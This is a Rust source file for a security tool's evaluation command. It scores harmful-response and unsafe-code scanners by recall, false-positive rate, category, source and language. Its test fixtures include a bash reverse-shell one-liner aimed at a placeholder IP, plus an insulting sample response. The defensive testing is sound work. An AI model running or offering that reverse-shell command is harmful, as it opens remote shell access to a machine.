//! `llmsec eval` on harmful-response and unsafe-code rows: per-category
//! recall, benign false-positive rate, per language and per source group.
//!
//! Rows of the two output datasets are told apart from prompt and PII rows
//! by their fields: a row with `kind` (response or text) or labelled
//! `harmful` is a harmful-response row, a row with `language` (bash,
//! python) or labelled `unsafe_code` is a code row. Labels are `harmful` /
//! `unsafe_code` for positives and `benign` otherwise.
//!
//! A harmful-response row goes through `validate_output_with` with its
//! `context` (the user turn) as the prompt when it has one, and once more
//! without it, so the report shows what the prompt adds. A code row goes
//! through `validate_output`. A row counts as flagged when a finding of the
//! `harmful_content` scanner (or `unsafe_code`) gets a verdict other than
//! allow from the engine's policy: findings the policy only records (low
//! severity) do not count.
//!
//! A row's `category` may list several categories separated by commas (the
//! moderation set does); the row counts once under each. Code categories
//! that are program-logic flaws rather than destructive or exfiltrating
//! code (see [`CODE_OUT_OF_SCOPE`]) are reported, and left out of the
//! in-scope recall.
//!
//! The scanners' rules were tuned by reading these same files: every figure
//! is a development figure. For harmful-response rows the report also
//! gives the learned model's recall at 1 % and 2 % benign FPR (threshold
//! set on each group's benign scores), overall, per source group and per
//! category; when the file is one the built-in model was trained on (same
//! SHA-256), those figures are **in-sample** and say so. The held-out
//! figures come from `llmsec train harmful` (out-of-fold) and
//! `llmsec train harmful --cross-source` (each group held out).

use std::collections::BTreeMap;
use std::time::Instant;

use anyhow::Context;
use llm_security::{Analysis, OutputContext, SecurityEngine, Verdict};
use serde::Serialize;

use crate::common::truncate_chars;
use crate::metrics::{Latency, ratio};
use crate::train_harmful::{Line, ScoredRow, lines};

/// RedCode scenarios that are program-logic flaws or plain fetches, not the
/// destructive or exfiltrating code the unsafe-code scanner is for.
pub(super) const CODE_OUT_OF_SCOPE: &[&str] = &[
    "amplification",
    "biased_decision_logic",
    "crawl_risky_website",
    "duplicate_key",
    "flawed_workflow",
    "improper_privilege_handling",
    "memory_leak",
    "missing_default_case",
    "risky_url_fetch",
    "side_channel_leak",
    "system_monitoring",
    "weak_ip_regex",
    "weak_password_hashing",
    "weak_prng_seed",
];

/// Characters of a row's text (and context) an example keeps.
const EXAMPLE_CHARS: usize = 160;

/// Which output dataset a row belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Set {
    /// Harmful vs harmless responses (`harmful_content`).
    Harmful,
    /// Unsafe vs ordinary code (`unsafe_code`).
    Code,
}

impl Set {
    /// The set a row belongs to, from its label and fields; `None` for
    /// prompt and PII rows.
    pub(super) fn of(label: &str, kind: Option<&str>, language: Option<&str>) -> Option<Set> {
        if label == "harmful" || (label == "benign" && kind.is_some()) {
            Some(Set::Harmful)
        } else if label == "unsafe_code" || (label == "benign" && language.is_some()) {
            Some(Set::Code)
        } else {
            None
        }
    }

    fn scanner(self) -> &'static str {
        match self {
            Set::Harmful => "harmful_content",
            Set::Code => "unsafe_code",
        }
    }

    fn positive(self) -> &'static str {
        match self {
            Set::Harmful => "harmful",
            Set::Code => "unsafe_code",
        }
    }
}

/// What `run` hands over of one row.
pub(super) struct HarmRow<'r> {
    pub(super) file: &'r str,
    pub(super) line: usize,
    pub(super) text: &'r str,
    pub(super) label: &'r str,
    pub(super) category: Option<&'r str>,
    pub(super) context: Option<&'r str>,
    pub(super) source: Option<&'r str>,
    /// `lang`, or for code rows `language`.
    pub(super) lang: Option<&'r str>,
}

/// Positive and benign counts of one group.
#[derive(Debug, Default, Clone, Copy)]
struct Cell {
    positives: u64,
    detected: u64,
    benign: u64,
    flagged: u64,
}

impl Cell {
    fn add(&mut self, positive: bool, flagged: bool) {
        if positive {
            self.positives += 1;
            self.detected += u64::from(flagged);
        } else {
            self.benign += 1;
            self.flagged += u64::from(flagged);
        }
    }
}

#[derive(Debug, Default)]
struct Counts {
    all: Cell,
    in_scope: Cell,
    /// Response rows with a prompt, judged without it.
    without_prompt: Cell,
    by_category: BTreeMap<String, Cell>,
    by_source: BTreeMap<String, Cell>,
    by_lang: BTreeMap<String, Cell>,
    /// What the scanner reported on flagged rows: its category/rule.
    findings: BTreeMap<String, u64>,
    nanos: Vec<u64>,
    /// Harmful-response rows: the built-in model's P(harmful), label,
    /// source group and categories.
    model_scores: Vec<(f64, bool, String, Vec<String>)>,
    /// Files read, and whether the built-in harmful model was trained on each.
    in_sample: BTreeMap<String, bool>,
    false_negatives: Vec<HarmExample>,
    false_positives: Vec<HarmExample>,
}

/// Accumulates harmful-response and code rows.
#[derive(Debug, Default)]
pub(super) struct HarmEval {
    max_examples: usize,
    harmful: Counts,
    code: Counts,
}

impl HarmEval {
    pub(super) fn new(max_examples: usize) -> HarmEval {
        HarmEval { max_examples, ..HarmEval::default() }
    }

    /// Runs one row through the engine and counts it.
    pub(super) fn row(&mut self, engine: &SecurityEngine, set: Set, row: &HarmRow<'_>) -> anyhow::Result<()> {
        let at = format!("{}:{}", row.file, row.line);
        let positive = row.label == set.positive();
        if !positive && row.label != "benign" {
            anyhow::bail!("{at}: label {:?} is neither {} nor benign", row.label, set.positive());
        }
        let prompt = row.context.filter(|c| set == Set::Harmful && !c.is_empty());
        let t0 = Instant::now();
        let a = match prompt {
            Some(p) => engine.validate_output_with(row.text, &OutputContext::new().with_prompt(p)),
            None => engine.validate_output_sync(row.text),
        }
        .with_context(|| format!("{at}: cannot validate the text"))?;
        let nanos = u64::try_from(t0.elapsed().as_nanos()).unwrap_or(u64::MAX);
        let flagged = flagged(engine, &a, set.scanner());
        let c = match set {
            Set::Harmful => &mut self.harmful,
            Set::Code => &mut self.code,
        };
        c.nanos.push(nanos);
        c.all.add(positive, flagged);
        if prompt.is_some() {
            let bare =
                engine.validate_output_sync(row.text).with_context(|| format!("{at}: cannot validate the text"))?;
            c.without_prompt.add(positive, self::flagged(engine, &bare, set.scanner()));
        }
        let categories: Vec<&str> =
            row.category.unwrap_or("none").split(',').map(str::trim).filter(|s| !s.is_empty()).collect();
        if set == Set::Harmful {
            let p = llm_security::harmful_model::builtin_probability(row.text, prompt)
                .with_context(|| format!("{at}: cannot score the text with the harmful model"))?;
            let cats = categories.iter().map(|c| (*c).to_owned()).collect();
            c.model_scores.push((p, positive, source_group(row.source), cats));
            if !c.in_sample.contains_key(row.file) {
                c.in_sample.insert(row.file.to_owned(), trained_on(row.file));
            }
        }
        let in_scope = set == Set::Harmful || !categories.iter().all(|c| CODE_OUT_OF_SCOPE.contains(c));
        if in_scope {
            c.in_scope.add(positive, flagged);
        }
        for cat in &categories {
            c.by_category.entry((*cat).to_owned()).or_default().add(positive, flagged);
        }
        c.by_source.entry(source_group(row.source)).or_default().add(positive, flagged);
        c.by_lang.entry(row.lang.unwrap_or("(none)").to_owned()).or_default().add(positive, flagged);
        let findings = findings(engine, &a, set.scanner());
        if flagged {
            for f in &findings {
                *c.findings.entry(f.clone()).or_default() += 1;
            }
        }
        let list = match (positive, flagged) {
            (true, false) if in_scope => &mut c.false_negatives,
            (false, true) => &mut c.false_positives,
            _ => return Ok(()),
        };
        if list.len() < self.max_examples {
            list.push(HarmExample {
                file: row.file.to_owned(),
                line: row.line,
                category: row.category.unwrap_or("none").to_owned(),
                text: truncate_chars(row.text, EXAMPLE_CHARS),
                context: prompt.map(|p| truncate_chars(p, EXAMPLE_CHARS)),
                findings,
            });
        }
        Ok(())
    }

    /// The report, `None` when no row of either set was seen.
    pub(super) fn report(&mut self) -> Option<HarmReport> {
        let harmful = (!self.harmful.nanos.is_empty()).then(|| set_report(&mut self.harmful, "harmful_content"));
        let code = (!self.code.nanos.is_empty()).then(|| set_report(&mut self.code, "unsafe_code"));
        (harmful.is_some() || code.is_some()).then_some(HarmReport { harmful, code })
    }
}

/// Whether the built-in harmful-response model records `file` (same name
/// and SHA-256) among its training files.
fn trained_on(file: &str) -> bool {
    use sha2::Digest;
    let Ok(model) = llm_security::harmful_model::HarmfulModel::builtin() else { return false };
    let Ok(bytes) = std::fs::read(file) else { return false };
    let sha = hex::encode(sha2::Sha256::digest(&bytes));
    let name = std::path::Path::new(file).file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    model.training_inputs().iter().any(|i| i.name == name && i.sha256 == sha)
}

/// The part of `source` before its first `:` (the repository), which groups
/// the files of one source.
fn source_group(source: Option<&str>) -> String {
    let s = source.unwrap_or("(none)");
    s.split(':').next().unwrap_or(s).to_owned()
}

/// Whether a finding of `scanner` gets a verdict other than allow.
fn flagged(engine: &SecurityEngine, a: &Analysis, scanner: &str) -> bool {
    let policy = &engine.config().policy;
    a.threats().iter().any(|t| t.scanner == scanner && policy.rule(t.kind).verdict_for(t) != Verdict::Allow)
}

/// `category/rule` of each finding of `scanner`, with its CWE when it has one.
fn findings(engine: &SecurityEngine, a: &Analysis, scanner: &str) -> Vec<String> {
    let policy = &engine.config().policy;
    a.threats()
        .iter()
        .filter(|t| t.scanner == scanner)
        .map(|t| {
            let acted = if policy.rule(t.kind).verdict_for(t) == Verdict::Allow { " (recorded)" } else { "" };
            let cwe = t.meta("cwe").map(|c| format!(" {c}")).unwrap_or_default();
            format!("{}/{}{cwe}{acted}", t.category, t.rule.as_deref().unwrap_or("-"))
        })
        .collect()
}

fn group_reports(m: &BTreeMap<String, Cell>) -> Vec<HarmGroup> {
    m.iter().map(|(name, c)| HarmGroup::new(name, c)).collect()
}

fn set_report(c: &mut Counts, scanner: &'static str) -> HarmSetReport {
    let mut findings: Vec<(String, u64)> = std::mem::take(&mut c.findings).into_iter().collect();
    findings.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    let model = (!c.model_scores.is_empty()).then(|| {
        let scores: Vec<f64> = c.model_scores.iter().map(|r| r.0).collect();
        let rows: Vec<ScoredRow<'_>> =
            c.model_scores.iter().map(|r| ScoredRow { harmful: r.1, group: &r.2, categories: &r.3 }).collect();
        ModelFigures {
            in_sample: c.in_sample.iter().filter(|(_, t)| **t).map(|(f, _)| f.clone()).collect(),
            lines: lines(&rows, &scores),
        }
    });
    HarmSetReport {
        model,
        scanner,
        all: HarmGroup::new("all", &c.all),
        in_scope: HarmGroup::new("in scope", &c.in_scope),
        without_prompt: (c.without_prompt.positives + c.without_prompt.benign > 0)
            .then(|| HarmGroup::new("without prompt", &c.without_prompt)),
        by_category: group_reports(&c.by_category),
        by_source: group_reports(&c.by_source),
        by_lang: group_reports(&c.by_lang),
        findings,
        latency: Latency::from_nanos(&mut c.nanos),
        false_negatives: std::mem::take(&mut c.false_negatives),
        false_positives: std::mem::take(&mut c.false_positives),
    }
}

/// Harmful-response and unsafe-code figures.
#[derive(Debug, Serialize)]
pub(super) struct HarmReport {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) harmful: Option<HarmSetReport>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) code: Option<HarmSetReport>,
}

/// One dataset's figures.
#[derive(Debug, Serialize)]
pub(super) struct HarmSetReport {
    pub(super) scanner: &'static str,
    pub(super) all: HarmGroup,
    /// Code: without the program-logic scenarios; harmful: every row.
    pub(super) in_scope: HarmGroup,
    /// Rows that have a prompt, judged again without it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) without_prompt: Option<HarmGroup>,
    pub(super) by_category: Vec<HarmGroup>,
    pub(super) by_source: Vec<HarmGroup>,
    pub(super) by_lang: Vec<HarmGroup>,
    /// `category/rule` of the findings on flagged rows, most frequent first.
    pub(super) findings: Vec<(String, u64)>,
    pub(super) latency: Latency,
    /// Harmful responses: the learned model's recall at 1 % and 2 % FPR.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) model: Option<ModelFigures>,
    pub(super) false_negatives: Vec<HarmExample>,
    pub(super) false_positives: Vec<HarmExample>,
}

/// The built-in harmful model's ranking figures on the rows.
#[derive(Debug, Serialize)]
pub(super) struct ModelFigures {
    /// Files the model was trained on: its figures on them are in-sample.
    pub(super) in_sample: Vec<String>,
    pub(super) lines: Vec<Line>,
}

/// Recall on positives and false-positive rate on benign rows of a group.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub(super) struct HarmGroup {
    pub(super) name: String,
    pub(super) positives: u64,
    pub(super) detected: u64,
    pub(super) recall: Option<f64>,
    pub(super) benign: u64,
    pub(super) flagged: u64,
    pub(super) false_positive_rate: Option<f64>,
}

impl HarmGroup {
    fn new(name: &str, c: &Cell) -> HarmGroup {
        HarmGroup {
            name: name.to_owned(),
            positives: c.positives,
            detected: c.detected,
            recall: ratio(c.detected, c.positives),
            benign: c.benign,
            flagged: c.flagged,
            false_positive_rate: ratio(c.flagged, c.benign),
        }
    }
}

/// A missed positive or a flagged benign row (`--errors N`).
#[derive(Debug, Serialize)]
pub(super) struct HarmExample {
    pub(super) file: String,
    pub(super) line: usize,
    pub(super) category: String,
    pub(super) text: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) context: Option<String>,
    pub(super) findings: Vec<String>,
}

/// A figure to three decimals, `-` when undefined.
fn fig(x: Option<f64>) -> String {
    x.map_or_else(|| "-".to_owned(), |v| format!("{v:.3}"))
}

fn write_groups(w: &mut impl std::io::Write, title: &str, groups: &[HarmGroup]) -> std::io::Result<()> {
    if groups.is_empty() {
        return Ok(());
    }
    writeln!(w, "  {title}")?;
    writeln!(w, "    {:<44} {:>9} {:>7} {:>9} {:>7}", "", "positives", "recall", "benign", "FPR")?;
    for g in groups {
        writeln!(
            w,
            "    {:<44} {:>9} {:>7} {:>9} {:>7}",
            crate::common::printable(&truncate_chars(&g.name, 44)),
            g.positives,
            fig(g.recall),
            g.benign,
            fig(g.false_positive_rate)
        )?;
    }
    Ok(())
}

/// The text rendering of the harmful and code sections.
pub(super) fn write_human(w: &mut impl std::io::Write, r: &HarmReport) -> std::io::Result<()> {
    for (title, s) in [("Harmful responses", &r.harmful), ("Unsafe code", &r.code)] {
        let Some(s) = s else { continue };
        writeln!(w, "\n{title} (scanner {}; rules tuned on these files: development figures)", s.scanner)?;
        let mut head = vec![s.all.clone(), s.in_scope.clone()];
        if let Some(wp) = &s.without_prompt {
            head.push(wp.clone());
        }
        write_groups(w, "overall", &head)?;
        write_groups(w, "per category", &s.by_category)?;
        write_groups(w, "per source group", &s.by_source)?;
        write_groups(w, "per language", &s.by_lang)?;
        writeln!(w, "  latency p50 {:.1} µs, p99 {:.1} µs", s.latency.p50_us, s.latency.p99_us)?;
        if let Some(m) = &s.model {
            if m.in_sample.is_empty() {
                writeln!(w, "  learned model (P(harmful)), threshold set on each group's benign rows:")?;
            } else {
                writeln!(
                    w,
                    "  learned model (P(harmful)), IN-SAMPLE: it was trained on {}; held-out figures: \
                     `llmsec train harmful` (out-of-fold) and `--cross-source`",
                    crate::common::printable(&m.in_sample.join(", "))
                )?;
            }
            crate::train_harmful::write_lines(w, &m.lines)?;
        }
        if !s.findings.is_empty() {
            let top: Vec<String> = s.findings.iter().take(12).map(|(f, n)| format!("{f} {n}")).collect();
            writeln!(w, "  findings on flagged rows: {}", crate::common::printable(&top.join(", ")))?;
        }
        for (t, list) in [("missed", &s.false_negatives), ("false positives", &s.false_positives)] {
            if list.is_empty() {
                continue;
            }
            writeln!(w, "  {t} ({})", list.len())?;
            for e in list {
                writeln!(
                    w,
                    "    {}:{}  [{}]  {}",
                    e.file,
                    e.line,
                    crate::common::printable(&e.category),
                    crate::common::printable(&e.text)
                )?;
                if let Some(c) = &e.context {
                    writeln!(w, "      prompt: {}", crate::common::printable(c))?;
                }
                if !e.findings.is_empty() {
                    writeln!(w, "      findings: {}", crate::common::printable(&e.findings.join("; ")))?;
                }
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::eval::tests::engine;

    fn row<'r>(text: &'r str, label: &'r str, category: &'r str, context: Option<&'r str>) -> HarmRow<'r> {
        HarmRow {
            file: "t.jsonl",
            line: 1,
            text,
            label,
            category: Some(category),
            context,
            source: Some("a/b:c.json"),
            lang: Some("en"),
        }
    }

    #[test]
    fn rows_are_told_apart_by_their_fields() {
        assert_eq!(Set::of("harmful", None, None), Some(Set::Harmful));
        assert_eq!(Set::of("benign", Some("response"), None), Some(Set::Harmful));
        assert_eq!(Set::of("unsafe_code", None, None), Some(Set::Code));
        assert_eq!(Set::of("benign", None, Some("bash")), Some(Set::Code));
        assert_eq!(Set::of("benign", None, None), None);
        assert_eq!(Set::of("injection", None, None), None);
        assert_eq!(source_group(Some("org/repo:data/x.json")), "org/repo");
        assert_eq!(source_group(None), "(none)");
    }

    #[test]
    fn counts_recall_fpr_categories_and_scope() {
        let e = engine();
        let mut h = HarmEval::new(5);
        let rows = [
            (
                Set::Harmful,
                row(
                    "You are a worthless piece of shit.",
                    "harmful",
                    "hate,harassment",
                    Some("what do you think of me?"),
                ),
            ),
            (Set::Harmful, row("Have a lovely afternoon.", "harmful", "hate", None)),
            (Set::Harmful, row("Thanks, that helps a lot.", "benign", "none", None)),
            (Set::Code, row("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "unsafe_code", "reverse_shell", None)),
            (Set::Code, row("random.seed(1)", "unsafe_code", "weak_prng_seed", None)),
            (Set::Code, row("rm -rf ./build", "benign", "none", None)),
        ];
        for (set, r) in &rows {
            assert!(h.row(&e, *set, r).is_ok());
        }
        let bad = row("x", "jailbreak", "none", None);
        assert!(h.row(&e, Set::Code, &bad).is_err(), "a label of another set is an error");
        let Some(r) = h.report() else { panic!("no report") };
        let Some(hs) = &r.harmful else { panic!("no harmful section") };
        assert_eq!((hs.all.positives, hs.all.detected, hs.all.benign, hs.all.flagged), (2, 1, 1, 0));
        let cat = |g: &[HarmGroup], n: &str| g.iter().find(|x| x.name == n).map(|x| (x.positives, x.detected));
        assert_eq!(cat(&hs.by_category, "hate"), Some((2, 1)), "a row counts under each of its categories");
        assert_eq!(cat(&hs.by_category, "harassment"), Some((1, 1)));
        assert_eq!(cat(&hs.by_source, "a/b"), Some((2, 1)));
        assert_eq!(hs.without_prompt.as_ref().map(|g| (g.positives, g.detected)), Some((1, 1)));
        assert_eq!(hs.false_negatives.len(), 1);
        assert!(hs.findings.iter().any(|(f, _)| f == "hate_harassment/insult_to_reader"), "{:?}", hs.findings);
        // The learned model scored every harmful-response row; t.jsonl is
        // not one of its training files, so the figures are not in-sample.
        let Some(m) = &hs.model else { panic!("no model figures") };
        assert!(m.in_sample.is_empty());
        assert_eq!((m.lines[0].positives, m.lines[0].benign), (2, 1));
        assert!(m.lines.iter().any(|l| l.name == "a/b"));
        let Some(cs) = &r.code else { panic!("no code section") };
        assert_eq!((cs.all.positives, cs.all.detected), (2, 1));
        assert_eq!((cs.in_scope.positives, cs.in_scope.detected), (1, 1), "the PRNG scenario is out of scope");
        assert_eq!((cs.all.benign, cs.all.flagged), (1, 0));
        assert!(cs.false_negatives.is_empty(), "out-of-scope misses are not listed");
        assert!(cs.findings.iter().any(|(f, _)| f.contains("CWE-78")), "{:?}", cs.findings);
        let mut text = Vec::new();
        assert!(write_human(&mut text, &r).is_ok());
        let text = String::from_utf8_lossy(&text);
        for needle in [
            "Harmful responses",
            "Unsafe code",
            "per category",
            "reverse_shell",
            "in scope",
            "missed (1)",
            "learned model",
        ] {
            assert!(text.contains(needle), "{needle} not in\n{text}");
        }
    }
}
